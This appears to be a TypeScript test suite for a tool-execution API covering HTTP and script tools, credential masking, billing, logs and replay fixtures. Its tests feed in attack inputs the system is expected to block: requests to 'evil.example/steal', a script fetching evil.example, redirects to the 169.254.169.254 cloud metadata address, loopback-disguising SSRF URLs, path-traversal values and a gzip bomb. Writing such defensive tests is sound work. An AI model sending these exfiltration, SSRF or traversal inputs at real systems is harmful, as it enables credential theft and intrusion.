import assert from 'node:assert/strict'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, beforeEach, describe, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { startTestApp, type TestApp, type TestProject } from '../../../test/harness.ts'
import { until } from '../../../test/until.ts'
import { sql } from '../../kernel/db/db.ts'

const base = '/api/v1/tools'
const secret = 'sk-very-secret-token-4711'

let app: TestApp
let project: TestProject
let server: Server
let origin: string
let seen: { method: string; url: string; headers: IncomingMessage['headers']; body: string }[] = []
let respond: ((request: IncomingMessage, response: ServerResponse) => void) | null = null

before(async () => {
  server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const { method = '', url = '', headers } = request
      seen.push({ method, url, headers, body: Buffer.concat(chunks).toString() })
      if (respond) return respond(request, response)
      response.setHeader('content-type', 'application/json')
      response.end(JSON.stringify({ url, auth: headers.authorization ?? null }))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  origin = `http://127.0.0.1:${port}`
  app = await startTestApp({
    allowPrivate: `127.0.0.1:${port}`,
    storageLimits: { projectBytes: 100_000_000, userBytes: 2_000_000 },
  })
  project = await app.newProject()
})
beforeEach(() => {
  seen = []
  respond = null
})
after(async () => {
  await app.stop()
  server.closeAllConnections()
  server.close()
})

let count = 0
async function tool(more: object, by = project): Promise<string> {
  const slug = `tool_${++count}`
  const { status, text } = await by.admin.post(base, {
    slug,
    name: 'T',
    description: 'T',
    toolkitSlug: 'own',
    inputParameters: { type: 'object' },
    noAuth: true,
    ...more,
  })
  assert.equal(status, 200, text)
  return slug
}
const http = (path: string, more: object = {}) => ({ http: { url: `${origin}${path}`, ...more } })
const run = async (slug: string, body: object = {}, by = project.admin.as('ada')) => {
  const response = await by.post(`${base}/execute/${slug}`, body)
  return { ...response, data: response.body.data, code: response.body.error?.code }
}
const balance = async ({ admin }: TestProject) => (await admin.get('/api/v1/usage/balance')).body.data

async function securedKit(slug: string, by = project) {
  const { status, text } = await by.admin.post('/api/v1/toolkits', {
    slug,
    name: slug,
    description: '',
    baseUrl: origin,
    authSchemes: ['BEARER_TOKEN', 'BASIC'],
  })
  assert.equal(status, 200, text)
}
const bearer = (toolkitSlug: string) => ({
  customConnectionData: { authScheme: 'BEARER_TOKEN', toolkitSlug, val: { token: secret } },
})

describe('an HTTP tool', () => {
  test('sends what its template says and is charged for', async () => {
    const slug = await tool({
      inputParameters: {
        type: 'object',
        properties: { id: { type: 'integer' }, q: { type: 'string', default: 'all' } },
        required: ['id'],
      },
      ...http('/items/{{id}}', { query: { q: '{{q}}' } }),
    })
    const { data } = await run(slug, { arguments: { id: 7 } })
    assert.equal(data.data.url, '/items/7?q=all')
    assert.equal(data.creditsCharged, 2)
    assert.equal(data.upstreamStatus, 200)
    const log = await project.admin.as('ada').get(`${base}/execution-logs/${data.logId}`)
    assert.deepEqual(log.body.data.arguments, { id: 7, q: 'all' })
    assert.equal(log.body.data.status, 'succeeded')
  })
  test('422 with all faults when the arguments do not fit, and nothing is sent', async () => {
    const inputParameters = {
      type: 'object',
      required: ['a', 'b'],
      properties: { a: { type: 'integer' } },
      additionalProperties: false,
    }
    const slug = await tool({ inputParameters, ...http('/') })
    const { status, code, body } = await run(slug, { arguments: { a: 'x', c: 1 } })
    assert.deepEqual([status, code], [422, 'tool_arguments_invalid'])
    assert.equal(body.error.details.length, 3)
    assert.ok(body.error.details.some(({ path }: { path: string }) => path === '/arguments/a'))
    assert.equal(seen.length, 0)
  })
  const refusals: [number, string][] = [
    [401, 'auth_expired'],
    [403, 'insufficient_scope'],
    [404, 'not_found'],
    [422, 'upstream_4xx'],
    [429, 'rate_limited'],
    [500, 'upstream_5xx'],
  ]
  for (const [status, errorCode] of refusals)
    test(`${status} of the service is an outcome and costs nothing`, async () => {
      respond = (_, response) =>
        response
          .writeHead(status, { 'content-type': 'application/json', 'retry-after': '3600' })
          .end('{"why":"no"}')
      const { data } = await run(await tool(http('/', { method: 'POST' })))
      assert.equal(data.successful, false)
      assert.equal(data.errorCode, errorCode)
      assert.equal(data.upstreamStatus, status)
      assert.deepEqual(data.data, { why: 'no' })
      assert.equal(data.creditsCharged, 0)
      assert.deepEqual([data.retryAfter, data.retryAfterMs], [3600, 3_600_000])
      assert.equal(seen.length, 1)
    })
  test('is tried again only where that is harmless', async () => {
    const failing = () => {
      let calls = 0
      respond = (_, response) =>
        response
          .writeHead(++calls < 3 ? 503 : 200, { 'content-type': 'application/json', 'retry-after': '0' })
          .end('{}')
    }
    failing()
    const read = await run(await tool(http('/')))
    assert.deepEqual([read.data.successful, read.data.tries], [true, 3])
    failing()
    const write = await run(await tool(http('/', { method: 'POST' })))
    assert.deepEqual([write.data.successful, write.data.tries], [false, 1])
  })
  test('stores bytes as a file and large results as one with a preview', async () => {
    respond = (_, response) =>
      response.setHeader('content-type', 'application/json').end(JSON.stringify({ big: 'x'.repeat(300_000) }))
    const { data } = await run(await tool(http('/')))
    assert.equal(data.truncated, true)
    assert.ok(data.data.preview.length <= 4000)
    const file = await project.admin.as('ada').get(`/api/v1/file/download/${data.fileId}`)
    assert.equal(JSON.parse(file.text).big.length, 300_000)
    respond = (_, response) =>
      response
        .setHeader('content-type', 'image/png')
        .setHeader('content-disposition', 'attachment; filename="../../etc/a.png"')
        .end('bytes')
    const picture = await run(await tool(http('/')))
    assert.equal(picture.data.data.name, 'a.png')
    const stored = await project.admin.as('ada').get(`/api/v1/file/download/${picture.data.data.fileId}`)
    assert.equal(stored.text, 'bytes')
  })
  test('is not undone because there is no capacity for all it says', async () => {
    const slug = await tool(http('/'))
    const asFull = async () => (await project.admin.as('full').post(`${base}/execute/${slug}`, {})).body.data
    const send = (content: string) => {
      respond = (_, response) => response.setHeader('content-type', 'application/json').end(content)
    }
    send(JSON.stringify({ big: 'x'.repeat(1_500_000) }))
    assert.ok((await asFull()).fileId)
    send(JSON.stringify({ big: 'y'.repeat(1_500_000) }))
    const second = await asFull()
    assert.deepEqual([second.successful, second.truncated, second.fileId], [true, true, null])
    assert.match(second.data.preview, /^{"big":"yyy/)
    assert.ok(second.creditsCharged > 0)
    respond = (_, response) => response.setHeader('content-type', 'image/png').end(Buffer.alloc(1_500_000, 1))
    assert.equal((await asFull()).errorCode, 'output_too_large')
  })
  test('warns of a result that does not match its schema, or fails in strict mode', async () => {
    const slug = await tool({ outputParameters: { type: 'object', required: ['gone'] }, ...http('/') })
    const lenient = await run(slug)
    assert.equal(lenient.data.successful, true)
    assert.match(lenient.data.warnings[0], /gone/)
    const strict = await run(slug, { strictOutput: true })
    assert.deepEqual(
      [strict.data.successful, strict.data.errorCode, strict.data.creditsCharged],
      [false, 'output_invalid', 0],
    )
  })
})

test('an operation of an imported API description is found, listed and executed like any tool', async () => {
  const spec = {
    openapi: '3.1.0',
    info: { title: 'Pets', version: '1.0.0' },
    servers: [{ url: origin }],
    paths: {
      '/pets/{id}': {
        get: {
          operationId: 'getPet',
          parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'integer' } }],
          responses: { 200: { description: 'ok' } },
        },
      },
    },
  }
  const made = await project.admin.post('/api/v1/toolkits/import/openapi', { slug: 'pets', spec })
  assert.equal(made.status, 200, made.text)
  for (const body of [
    { query: 'get a pet', limit: 50 },
    { query: 'pet', toolkits: ['pets'] },
  ]) {
    const { body: response } = await project.member.post('/api/v1/tools/search', body)
    assert.ok(response.data.some(({ toolkitSlug }: { toolkitSlug: string }) => toolkitSlug === 'pets'))
  }
  const foreign = await project.member.post('/api/v1/tools/search', { query: 'get the current time' })
  assert.equal(foreign.body.data[0].toolkitSlug, 'datetime')
  const listed = await project.admin.get(`${base}?toolkitSlug=pets`)
  const [{ slug, id, provider }] = listed.body.data
  assert.equal(provider, 'OPENAPI')
  assert.equal((await project.admin.get(`${base}/byId/${id}`)).body.data.slug, slug)
  const { data, text } = await run(slug, { arguments: { id: 9 } })
  assert.equal(data?.successful, true, text)
  assert.equal(seen[0]!.url, '/pets/9')
  assert.equal((await run(slug, { arguments: {} })).code, 'tool_arguments_invalid')
})

const idInPath = { in: 'path', name: 'id', required: true, schema: { type: 'string' } }

describe('credentials', () => {
  before(() => securedKit('secured'))
  const secured = (more: object) => tool({ toolkitSlug: 'secured', noAuth: false, ...more })

  test('are required, and the error says how to connect', async () => {
    const { status, code } = await run(
      await secured({ http: { url: '/me' } }),
      {},
      project.admin.as('nobody'),
    )
    assert.deepEqual([status, code], [422, 'connection_required'])
  })
  test('are on the request and nowhere else', async () => {
    const echo = await secured({ http: { url: '/me' } })
    const { text, data } = await run(echo, bearer('secured'))
    assert.equal(seen[0]!.headers.authorization, `Bearer ${secret}`)
    assert.equal(data.data.auth, 'Bearer [hidden]')
    assert.ok(!text.includes(secret))
    const basic = {
      customConnectionData: {
        authScheme: 'BASIC',
        toolkitSlug: 'secured',
        val: { username: 'ada', password: secret },
      },
    }
    const again = await run(echo, basic)
    assert.match(String(seen[1]!.headers.authorization), /^Basic /)
    assert.ok(!again.text.includes(String(seen[1]!.headers.authorization).slice(6)))
    const credentials = { customAuthParams: { parameters: [{ name: 'x-key', in: 'header', value: secret }] } }
    await run(echo, credentials)
    assert.equal(seen[2]!.headers['x-key'], secret)
    const servers = [{ url: 'https://api.example.com/v1' }]
    const info = { title: 'T', version: '1' }
    const paths = { '/things/{id}': { get: { operationId: 'thing', parameters: [idInPath] } } }
    const spec = { openapi: '3.1.0', info, servers, paths }
    await project.admin.post('/api/v1/toolkits/import/openapi', { slug: 'movable', spec })
    const moved = { customAuthParams: { ...credentials.customAuthParams, baseUrl: `${origin}/v2` } }
    const elsewhere = await run('movable_thing', { arguments: { id: '7' }, ...moved })
    assert.equal(elsewhere.data.successful, true, elsewhere.text)
    assert.deepEqual([seen[3]!.url, seen[3]!.headers['x-key']], ['/v2/things/7', secret])
    const dryRun = await run('movable_thing', { arguments: { id: '8' }, ...moved, dryRun: true })
    assert.deepEqual(
      [dryRun.data.request.url, dryRun.data.request.headers['x-key'], seen.length],
      [`${origin}/v2/things/8`, '[hidden]', 4],
    )
    const refused = await run('movable_thing', { arguments: { id: '..' }, dryRun: true })
    assert.equal(refused.body.error.code, 'tool_arguments_invalid')
  })
  test('are shown masked by a dry run, which sends and charges nothing', async () => {
    const slug = await secured({ inputParameters: { properties: { id: {} } }, http: { url: '/me/{{id}}' } })
    const climbing = await run(slug, { arguments: { id: 'x/../../admin' }, ...bearer('secured') })
    assert.deepEqual([climbing.data.errorCode, seen.length], ['arguments_invalid', 0])
    const { data, text } = await run(slug, { dryRun: true, arguments: { id: 5 }, ...bearer('secured') })
    assert.deepEqual(data.request, {
      method: 'GET',
      url: `${origin}/me/5`,
      headers: { authorization: 'Bearer [hidden]' },
      body: null,
    })
    assert.deepEqual([data.logId, data.creditsCharged, seen.length], [null, 0, 0])
    assert.ok(!text.includes(secret))
  })
  test('do not leave for another host, by template or by redirect', async () => {
    const elsewhere = await secured({ http: { url: 'https://evil.example/steal' } })
    assert.equal((await run(elsewhere, bearer('secured'))).data.errorCode, 'host_not_allowed')
    const { port } = new URL(origin)
    respond = (_, response) => response.writeHead(302, { location: `http://localhost:${port}/stolen` }).end()
    const redirected = await run(await secured({ http: { url: '/start' } }), bearer('secured'))
    assert.equal(redirected.data.successful, false)
    const stolen = seen.filter(({ url }) => url === '/stolen')
    assert.ok(stolen.length > 0 && stolen.every(({ headers }) => headers.authorization === undefined))
  })
  test('never enter a script, which still reaches its service', async () => {
    const source = `
      const response = await fetch('${origin}/as-me', { headers: { 'x-mine': '1' } })
      let other = null
      try { await fetch('https://evil.example/' + JSON.stringify(globalThis).length) } catch (error) { other = String(error) }
      return { body: await response.json(), url: response.url, keys: Object.keys(state), other }`
    const slug = await secured({ script: { language: 'javascript', source } })
    const { data, text } = await run(slug, { arguments: { a: 1 }, ...bearer('secured') })
    assert.equal(data.error, null, text)
    assert.equal(seen[0]!.headers.authorization, `Bearer ${secret}`)
    assert.equal(seen[0]!.headers['x-mine'], '1')
    assert.deepEqual(data.data.keys, ['a'])
    assert.ok(data.data.other)
    assert.ok(!text.includes(secret))
  })
  test('of an account are found by id, label or as the newest, and serve the proxy', async () => {
    const ada = project.admin.as('ada')
    const config = await project.admin.post('/api/v1/auth_configs', {
      toolkit: { slug: 'secured' },
      authConfig: { type: 'use_custom_auth', authScheme: 'BEARER_TOKEN' },
    })
    assert.equal(config.status, 200, config.text)
    const authConfigId: string = config.body.data.id
    const account = await ada.post('/api/v1/connected_accounts', {
      authConfig: { id: authConfigId },
      connection: { state: { authScheme: 'BEARER_TOKEN', val: { token: secret } } },
    })
    assert.equal(account.status, 200, account.text)
    const { id } = account.body.data
    const slug = await secured({ http: { url: '/with-account' } })
    const { data, text } = await run(slug)
    assert.equal(data.connectedAccountId, id, text)
    assert.equal(seen[0]!.headers.authorization, `Bearer ${secret}`)
    assert.equal((await run(slug, { connectedAccountId: id })).data.successful, true)
    assert.equal(
      (await run(slug, { connectedAccountId: id }, project.admin.as('eve'))).data?.successful,
      undefined,
    )
    const only = (query: string) => ada.get(`${base}?toolkitSlug=secured&${query}`)
    assert.ok((await only('onlyConnected=true')).body.total > 0)
    assert.ok((await only(`authConfigIds=${authConfigId}`)).body.total > 0)
    assert.equal((await only('authConfigIds=0199f1a0-0000-7000-8000-0000000000ff')).body.total, 0)

    seen = []
    const proxy = (body: object, by = ada) => by.post(`${base}/proxy`, body)
    const proxied = await proxy({
      connectedAccountId: id,
      method: 'PUT',
      endpoint: '/raw',
      query: { a: 1 },
      body: { b: 2 },
    })
    assert.deepEqual([proxied.body.data.successful, proxied.body.data.toolSlug], [true, 'secured_proxy'])
    assert.deepEqual(
      [seen[0]!.url, seen[0]!.body, seen[0]!.headers.authorization],
      ['/raw?a=1', '{"b":2}', `Bearer ${secret}`],
    )
    assert.ok(!proxied.text.includes(secret))
    const away = await proxy({ connectedAccountId: id, endpoint: 'https://evil.example/' })
    assert.equal(away.body.data.errorCode, 'host_not_allowed')
    assert.equal(
      (await proxy({ connectedAccountId: id, endpoint: '/x' }, project.admin.as('eve'))).status,
      422,
    )
    assert.equal((await proxy({ toolkitSlug: 'math', endpoint: '/x' })).status, 409)
    assert.equal((await proxy({ endpoint: '/x' })).status, 400)
  })
  test('are in no table and no log', async () => {
    const tables = await app.db.rows<{ name: string }>(
      sql`select table_name as name from information_schema.tables where table_schema = 'public'`,
    )
    for (const { name } of tables) {
      const rows = await app.db.rows({ text: `select t::text as line from public.${name} t`, values: [] })
      assert.ok(!JSON.stringify(rows).includes(secret), `${name} holds a secret`)
    }
    assert.ok(!app.logLines.join('').includes(secret))
  })
  test('and arguments that are secret are cut out of the log', async () => {
    const { data } = await run('crypto_hmac', { arguments: { text: 'x', secret: 'another-secret-value' } })
    const log = await project.admin.as('ada').get(`${base}/execution-logs/${data.logId}`)
    assert.equal(log.body.data.arguments.secret, '[hidden]')
  })
})

describe('a hostile service', () => {
  const outcomes = async (handler: NonNullable<typeof respond>, body: object = {}) => {
    respond = handler
    return (await run(await tool(http('/', { method: 'POST' })), body)).data
  }
  test('that never ends is cut off', async () => {
    const data = await outcomes((_, response) => void response.writeHead(200).write('x'), { timeoutMs: 300 })
    assert.equal(data.errorCode, 'timeout')
  })
  test('that sends too much', async () => {
    const data = await outcomes((_, response) => {
      const chunk = Buffer.alloc(1024 * 1024, 'x')
      const more = () => void (response.destroyed || response.write(chunk, () => setImmediate(more)))
      response.writeHead(200, { 'content-type': 'text/plain' })
      more()
    })
    assert.equal(data.errorCode, 'output_too_large')
  })
  test('that sends a bomb', async () => {
    const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024))
    const data = await outcomes((_, response) =>
      response.writeHead(200, { 'content-encoding': 'gzip', 'content-type': 'text/plain' }).end(bomb),
    )
    assert.equal(data.errorCode, 'output_too_large')
  })
  test('that redirects inside', async () => {
    const data = await outcomes((_, response) =>
      response.writeHead(303, { location: 'http://169.254.169.254/latest/meta-data' }).end(),
    )
    assert.equal(data.errorCode, 'host_not_allowed')
  })
  test('that returns NUL, half characters and broken JSON', async () => {
    const data = await outcomes((_, response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"a":"\\u0000\\ud800"}'),
    )
    assert.equal(data.successful, true)
    const broken = await outcomes((_, response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end('{oops'),
    )
    assert.equal(broken.data, '{oops')
  })
  for (const url of [
    'http://169.254.169.254/',
    'http://[::ffff:7f00:1]/',
    'http://localhost./',
    'http://0x7f.1/',
    'ftp://example.com/',
  ])
    test(`nothing is sent to ${url}`, async () => {
      const data = (await run('http_request', { arguments: { url, method: 'POST' } })).data
      assert.equal(data.successful, false)
      assert.ok(['host_not_allowed', 'arguments_invalid'].includes(data.errorCode), data.errorCode)
    })
})

describe('a script tool', () => {
  test('returns, throws and is held to its time', async () => {
    const good = await run(
      await tool({ script: { language: 'javascript', source: 'return { sum: state.a + 1 }' } }),
      { arguments: { a: 1 } },
    )
    assert.deepEqual(good.data.data, { sum: 2 })
    const bad = await run(await tool({ script: { language: 'javascript', source: 'throw new Error("no")' } }))
    assert.deepEqual([bad.data.errorCode, bad.data.creditsCharged], ['script_error', 0])
    const slow = await run(await tool({ script: { language: 'javascript', source: 'while (true);' } }), {
      timeoutMs: 500,
    })
    assert.equal(slow.data.errorCode, 'timeout')
  })
  test('has no network unless it says so', async () => {
    const source = `try { await fetch('${origin}/x'); return 'reached' } catch { return 'refused' }`
    const { data } = await run(await tool({ script: { language: 'javascript', source } }))
    assert.equal(data.data, 'refused')
    const open = await run(
      await tool({ script: { language: 'javascript', source, allowedHosts: ['127.0.0.1'] } }),
    )
    assert.equal(open.data.data, 'reached')
  })
})

describe('the rules around a call', () => {
  test('422 for what nothing runs, and for triggers', async () => {
    assert.equal((await run(await tool({}))).code, 'tool_not_executable')
    assert.equal((await run(await tool({ type: 'poll', ...http('/') }))).code, 'tool_not_executable')
    assert.equal((await run('no_such_tool')).code, 'tool_not_found')
  })
  test('a text is used for the one required argument', async () => {
    assert.equal((await run('crypto_hash', { text: 'abc' })).data.successful, true)
    assert.equal((await run('text_replace', { text: 'abc' })).code, 'tool_arguments_invalid')
  })
  test('400 for a proxy of the caller', async () =>
    assert.equal((await run('crypto_uuid', { proxyUrl: 'http://proxy.example' })).status, 400))
  test('402 before anything happens when it cannot be paid, and holds go back after failures', async () => {
    const poor = await app.newProject()
    await (await app.operatorOf(poor)).post('/api/v1/usage/grants', { credits: 3, reason: 'test' })
    const slug = await tool(http('/'), poor)
    assert.equal((await run(slug, {}, poor.admin)).status, 200)
    assert.equal((await run(slug, {}, poor.admin)).status, 402)
    assert.equal(seen.length, 1)
    const left = await balance(poor)
    assert.equal(left.balance, 1, JSON.stringify(left))
    assert.equal(left.held ?? 0, 0)
    const { isClean, orphans } = await app.app.usage.reconcile(poor.scope)
    assert.deepEqual([isClean, orphans], [true, []])
  })
  test('429 beyond twenty concurrent executions', async () => {
    const busy = await app.newProject()
    const waiting: ServerResponse[] = []
    respond = (_, response) => void waiting.push(response)
    const slug = await tool(http('/'), busy)
    const calls = Array.from({ length: 20 }, () => run(slug, {}, busy.admin))
    await until(() => waiting.length === 20)
    assert.equal((await run(slug, {}, busy.admin)).code, 'concurrency_limited')
    for (const response of waiting) response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
    assert.ok((await Promise.all(calls)).every(({ data }) => data.successful))
  })
  test('a caller who leaves ends the tool, and is not charged', async () => {
    let isOpen = false
    respond = (_, response) => {
      isOpen = true
      response.on('close', () => {
        isOpen = false
      })
    }
    const slug = await tool(http('/', { method: 'POST' }))
    const leaving = new AbortController()
    const address = await app.listen()
    const call = fetch(`${address}${base}/execute/${slug}`, {
      method: 'POST',
      headers: { 'x-api-key': project.adminKey },
      signal: leaving.signal,
    })
    await until(() => isOpen)
    leaving.abort()
    await call.catch(() => undefined)
    const log = await until(async () => {
      const { body } = await project.admin.get(`${base}/execution-logs?toolSlug=${slug}`)
      return body.data[0]?.status === 'failed' ? body.data[0] : null
    })
    assert.deepEqual([log!.errorCode, log!.creditsCharged], ['cancelled', 0])
  })
  test('what a process that died left behind is given up and costs nothing', async () => {
    const lost = await app.newProject()
    let isHere = false
    respond = () => {
      isHere = true
    }
    const slug = await tool(http('/'), lost)
    const call = run(slug, { timeoutMs: 60_000 }, lost.admin)
    await until(() => isHere)
    await app.db.rows(sql`
      update tool_execution set alive_until = now() - interval '1 s' where project_id = ${lost.id}`)
    await app.app.sweep()
    const { body } = await lost.admin.get(`${base}/execution-logs`)
    assert.deepEqual([body.data[0].status, body.data[0].errorCode], ['failed', 'interrupted'])
    // The second attempt succeeds, and comes too late to be charged.
    respond = (_request, response) => void response.end('{}')
    server.closeAllConnections()
    assert.equal((await call).data.creditsCharged, 0)
    assert.equal((await app.app.usage.reconcile(lost.scope)).isClean, true)
  })
  test('a batch returns each outcome', async () => {
    const calls = [
      { toolSlug: 'crypto_hash', arguments: { text: 'a' } },
      { toolSlug: 'none' },
      { toolSlug: 'crypto_uuid' },
    ]
    const { body } = await project.admin.post(`${base}/execute-batch`, { calls, mode: 'parallel' })
    assert.deepEqual([body.data.successful, body.data.failed], [2, 1])
    assert.equal(body.data.results[1].refusal.code, 'tool_not_found')
    const stopped = await project.admin.post(`${base}/execute-batch`, { calls, stopOnError: true })
    assert.deepEqual(
      stopped.body.data.results.map(({ status }: { status: string }) => status),
      ['executed', 'refused', 'skipped'],
    )
  })
})

describe('logs', () => {
  test('are of the acting user, filtered and read on by cursor', async () => {
    const { admin } = await app.newProject()
    for (let i = 0; i < 3; i++) await run('crypto_uuid', {}, admin.as('ada'))
    await run('json_parse', { arguments: { text: '{' } }, admin.as('ada'))
    const ada = admin.as('ada')
    assert.equal((await admin.as('eve').get(`${base}/execution-logs`)).body.total, 0)
    const first = await ada.get(`${base}/execution-logs?limit=3`)
    const second = await ada.get(`${base}/execution-logs?limit=3&cursor=${first.body.nextCursor}`)
    assert.deepEqual([first.body.data.length, second.body.data.length, second.body.nextCursor], [3, 1, null])
    const count = async (query: string) => (await ada.get(`${base}/execution-logs?${query}`)).body.total
    assert.equal(await count('successful=false'), 1)
    assert.equal(await count('errorCode=arguments_invalid'), 1)
    assert.equal(await count('toolSlug=crypto_uuid'), 3)
    assert.equal(await count('logKind=triggers'), 0)
    assert.equal(await count('q=uuid'), 3)
    assert.equal(await count('to=2020-01-01'), 0)
  })
  test('keep no payloads where the project says so, and nothing of an erased user', async () => {
    const silent = await app.newProject()
    await silent.admin.patch('/api/v1/project', { storePayloads: false })
    const { data } = await run('crypto_hash', { text: 'hush' }, silent.admin.as('ada'))
    const log = await silent.admin.as('ada').get(`${base}/execution-logs/${data.logId}`)
    assert.deepEqual([log.body.data.arguments, log.body.data.result], [null, null])
    const user = await silent.admin.get('/api/v1/external-users/username/ada')
    await silent.admin.delete(`/api/v1/external-users/${user.body.data.id}`)
    const rows = await app.db.rows<{ status: string }>(
      sql`select status from tool_execution where project_id = ${silent.id}`,
    )
    assert.deepEqual(rows, [{ status: 'forgotten' }])
    assert.equal((await app.app.usage.reconcile(silent.scope)).isClean, true)
  })
})

describe('fixtures', () => {
  test('are created from a log and report what changed', async () => {
    const { admin } = await app.newProject()
    const own = { ...project, admin }
    let body: object = { id: 1, at: 'monday', name: 'x' }
    respond = (_, response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body))
    const slug = await tool(http('/'), own)
    const { data } = await run(slug, {}, admin)
    const made = await admin.post(`${base}/fixtures`, { logId: data.logId, ignoredPaths: ['/at'] })
    assert.equal(made.status, 200, made.text)
    const path = `${base}/fixtures/${made.body.data.id}`
    const replay = async (more: object = {}) => (await admin.post(`${path}/replay`, more)).body.data
    assert.equal((await replay({ compare: 'value' })).verdict, 'same')
    body = { id: 2, at: 'friday', name: 'y' }
    assert.equal((await replay()).verdict, 'same')
    assert.deepEqual(
      (await replay({ compare: 'value' })).changes.map(({ path }: { path: string }) => path),
      ['/data/id', '/data/name'],
    )
    body = { id: 'two', at: 'friday' }
    const changed = await replay()
    assert.equal(changed.verdict, 'changed')
    assert.deepEqual(
      changed.changes.map(({ kind }: { kind: string }) => kind),
      ['type', 'removed'],
    )
    await admin.patch(`${base}/byId/${slug}`, { inputParameters: { required: ['fresh'] } })
    const unfit = await replay()
    assert.match(unfit.faults[0], /fresh/)
    const report = await admin.post(`${base}/fixtures/replay`, { toolSlug: slug })
    assert.deepEqual([report.body.data.total, report.body.data.changed], [1, 1])
    assert.equal((await admin.get(`${base}/fixtures?toolSlug=${slug}`)).body.data[0].lastVerdict, 'changed')
    assert.equal((await project.admin.get(path)).status, 404)
    assert.equal((await admin.delete(path)).status, 200)
    assert.equal((await admin.get(path)).status, 404)
  })
  test('of tools that change something are only held against their schemas', async () => {
    const slug = await tool(http('/', { method: 'POST' }))
    const { data } = await run(slug, {}, project.admin)
    const made = await project.admin.post(`${base}/fixtures`, { logId: data.logId })
    seen = []
    const { body } = await project.admin.post(`${base}/fixtures/${made.body.data.id}/replay`, {})
    assert.deepEqual([body.data.mode, body.data.verdict, seen.length], ['schema', 'same', 0])
  })
})
